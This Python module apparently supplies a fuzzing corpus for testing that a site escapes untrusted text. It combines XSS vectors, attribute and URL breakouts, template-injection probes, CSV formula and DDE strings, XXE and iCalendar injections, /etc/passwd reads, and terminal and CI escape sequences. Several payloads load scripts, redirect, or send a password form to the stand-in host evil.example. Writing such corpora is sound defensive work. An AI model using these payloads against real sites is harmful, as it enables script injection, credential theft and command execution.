"""More than 500 texts that would do harm where somebody forgot to escape: vectors times what stands around them.

Every script in them sets `window.pwned` and opens a dialog, and `EVIL` is the one foreign place they ask for anything.
Sums in the languages of templates come to `SUM`, which stands in no text itself.
`/x.png` is a picture that is there and broken, so that `onerror` has its moment.
"""

import json
import os
from itertools import product
from pathlib import Path

EVIL = "evil.example"
SUM = str(7 * 7777)
RUN = "alert(pwned=1)"
_AS_ENTITIES = "".join(f"&#{ord(sign)};" for sign in RUN)
_AS_HEX = "".join(f"&#x{ord(sign):x}" for sign in RUN)

TAGS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script\t>", f"<script\n>{RUN}</script>",
    f"<script src=//{EVIL}/x.js></script>", f"<script type=module>import'//{EVIL}/x.js'</script>",
    f"<img alt=x src=/x.png onerror={RUN}>", f"<img/alt=x/src='/x.png'/onerror={RUN}>",
    f"<IMG ALT=x SRC=/x.png ONERROR={RUN}>",
    f"<img alt=x src=/x.png onerror={_AS_ENTITIES}>", f"<img alt=x src=/x.png onerror={_AS_HEX}>",
    f"<img alt='x' src='/x.png' onerror='{RUN}'>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<math><mtext><style><img src onerror={RUN}></style></mtext></math>",
    f"<details open ontoggle={RUN}>", f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<audio src=/x.png onerror={RUN}>", f"<marquee onstart={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>", f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<form action=https://{EVIL}/><input name=password><button>Go on</button></form>",
    f"<base href=https://{EVIL}/>", f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<link rel=stylesheet href=https://{EVIL}/x.css>", f"<style>@import'https://{EVIL}/x.css'</style>",
    f"<div style='background:url(https://{EVIL}/x.png)'>x</div>", f"<p id=main tabindex=1 autofocus onfocus={RUN}>x",
    f"<noscript><p title='</noscript><img alt=x src=/x.png onerror={RUN}>'>", f"<xmp><script>{RUN}</script></xmp>",
    f"<template><script>{RUN}</script></template>", f"<select><script>{RUN}</script></select>",
    f"<isindex action=javascript:{RUN}>", f"<x onclick={RUN} onmouseover={RUN} contenteditable>x</x>",
)  # fmt: skip
# What a text may stand in, and how one gets out of there.
AROUND = (
    "{}", '">{}', "'>{}", "</title>{}", "</textarea></script>{}", "-->{}<!--", "]]>{}<![CDATA[",
    "\\\"'>{}", "x\u2028{}", "`{}`", "{}{}",
)  # fmt: skip

ATTRIBUTES = (
    f'" onmouseover="{RUN}', f"' autofocus onfocus='{RUN}", f'x" onload={RUN} y="', f"x onerror={RUN}",
    f'"style="background:url(//{EVIL}/x)', f"&quot; onfocus=&quot;{RUN}", f'" src="x" onerror="{RUN}',
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}",
    f"javascript://{EVIL}/%0a{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChwd25lZD0xKTwvc2NyaXB0Pg==", f"//{EVIL}/x", f"\\\\{EVIL}\\x",
    f"https://a.example@{EVIL}/", f'https://a.example/"onclick="{RUN}', f"https://a.example/'><script>{RUN}</script>",
    f"mailto:x@a.example?body=<script>{RUN}</script>", f"tel:1\"onclick=\"{RUN}", "file:///etc/passwd",
)  # fmt: skip
# But for the one with a tab, which is a link that leads nowhere, and so an error.
_IN_MARKDOWN = (*ADDRESSES[:2], *ADDRESSES[3:9])
MARKDOWN = (
    *(form.format(address)
    for form, address in product(("[x]({})", "![x]({})", "[x](<{}>)", "<{}>"), _IN_MARKDOWN)),
    f'![x" onerror="{RUN}](/x.png "y\' onerror=\'{RUN}")', f"[x](/x.png 'z\" onclick=\"{RUN}')",
    f"# x {{onclick={RUN}}}",
    f"[^1]\n\n[^1]: <script>{RUN}</script>", f"| <script>{RUN}</script> |\n|---|", f"```<script>\n{RUN}\n```",
    f"- [ ] <img alt=x src=/x.png onerror={RUN}>", f"> [!NOTE]\n> <svg onload={RUN}>",
)  # fmt: skip
OF_TEMPLATES = (
    "{{7*7777}}", "{% raw %}{{7*7777}}", "{%if 1%}x{%endif%}", "${7*7777}", "#{7*7777}", "<%= 7*7777 %>",
    "{{config.items()}}", "{{''.__class__.__mro__}}", "{{ page.meta }}", "#(7*7777)", '#eval("7*7777")',
    '#read("/etc/passwd")', f'#link("javascript:{RUN}")[x]', '#include "/etc/passwd"', "$7*7777$", "%(x)s %n {0} {}",
    "__proto__", "constructor", "\\input{/etc/passwd}",
)  # fmt: skip
OF_FILES = (
    f"x\r\nATTACH:https://{EVIL}/x", "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:planted", "x\\nEND:VCALENDAR",
    f"x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:{EVIL}\r\nEND:VALARM", f'";ALTREP="https://{EVIL}/":x',
    "a;b,c\\;d",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", f'=HYPERLINK("https://{EVIL}/","x")', "=cmd|' /C calc'!A0", '","=1+1',
    f'<!DOCTYPE x [<!ENTITY y SYSTEM "https://{EVIL}/">]>&y;', "&y;", "]]>", "<?xml version='1.0'?>", "&#0;",
    "&#xD800;",
    '{"@context":"https://schema.org"}', '","x":"</script>', "\\u003cscript\\u003e", "---\nname: planted", "...\n- x",
    f"/JS ({RUN}) /S /JavaScript", f"(x) /URI (javascript:{RUN})", ") Tj ET",
)  # fmt: skip
OF_TERMINALS = (
    "\x1b[31mred", "\x1b]0;title\x07", f"\x1b]8;;https://{EVIL}\x07x", "\x9b31m", "\x08\x08\x08", "x\rover",
    "::error file=x::planted", "x\n::set-output name=x::y", "x%0A::error::planted", "##[command]x",
    "::stop-commands::x",
    "::add-mask::a", f"x\n![x](https://{EVIL}/x.png)", "@everyone <!channel>", "\u202egpj.exe", "\u2066x\u2069\u200b",
    "\ufeffx", "\x00", "\x7f", "\ufffe", "\U000e0041", "a\u0300" * 50, "ﷺ" * 20, "𝕊cript", "＜script＞", "<" * 50,
    "&" * 50,
)  # fmt: skip


def _all() -> list[str]:
    tags = [around.replace("{}", tag) for around, tag in product(AROUND, TAGS)]
    others = [*ATTRIBUTES, *ADDRESSES, *MARKDOWN, *OF_TEMPLATES, *OF_FILES, *OF_TERMINALS]
    more = os.environ.get("HUBSITE_MORE_STRINGS")
    given = json.loads(Path(more).read_text(encoding="utf-8")) if more else []
    return list(dict.fromkeys([*tags, *others, *(each for each in given if each.strip())]))


STRINGS = _all()
"""Every text once; with the environment variable HUBSITE_MORE_STRINGS, those of that JSON file (a list) as well."""
